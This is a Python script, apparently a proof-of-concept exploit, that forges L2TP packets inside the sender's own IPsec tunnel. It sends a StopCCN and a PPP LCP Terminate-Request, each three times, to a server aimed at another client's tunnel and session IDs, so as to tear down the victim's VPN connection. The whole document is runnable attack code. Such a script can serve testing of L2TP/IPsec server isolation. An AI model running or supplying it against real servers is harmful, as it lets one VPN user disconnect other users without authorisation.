#!/usr/bin/env python3
"""Crafts L2TP datagrams aimed at another client's tunnel, sent from inside the sender's own IPsec SA.

    l2tp_inject.py LOCAL_IP SERVER_IP TUNNEL SESSION

From LOCAL_IP:1701 to SERVER_IP:1701 (the sender's transport SA covers udp/1701, so both leave inside it):
  1. a StopCCN for tunnel TUNNEL (control, Ns 0, Nr 1), Result Code 1 ("general request to clear");
  2. a data message for TUNNEL/SESSION carrying a PPP LCP Terminate-Request.
Each would end the victim's tunnel or PPP link if the server took it for the victim's. Prints what it sent.
"""
import socket
import struct
import sys


def avp(attr, value, mandatory=True):
    flags = 0x8000 if mandatory else 0
    return struct.pack("!HHH", flags | (6 + len(value)), 0, attr) + value


def control(tunnel, ns, nr, avps):
    body = b"".join(avps)
    # T=1 L=1 S=1, version 2: 0xc802; length, tunnel, session 0, Ns, Nr
    return struct.pack("!HHHHHH", 0xC802, 12 + len(body), tunnel, 0, ns, nr) + body


def main(argv):
    local_ip, server_ip, tunnel, session = argv[1], argv[2], int(argv[3]), int(argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((local_ip, 1701))
    stopccn = control(tunnel, 0, 1, [avp(0, struct.pack("!H", 4)),          # Message Type: StopCCN
                                     avp(9, struct.pack("!H", 4242)),       # Assigned Tunnel ID
                                     avp(1, struct.pack("!H", 1))])         # Result Code 1
    # T=0 L=0, version 2: tunnel, session, then PPP (address, control, LCP Terminate-Request id 1, length 4)
    data = struct.pack("!HHH", 0x0002, tunnel, session) + bytes([0xFF, 0x03, 0xC0, 0x21, 0x05, 0x01, 0x00, 0x04])
    for _ in range(3):
        s.sendto(stopccn, (server_ip, 1701))
        s.sendto(data, (server_ip, 1701))
    print("sent 3 StopCCN to tunnel %d and 3 LCP Terminate-Request to session %d/%d" % (tunnel, tunnel, session))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
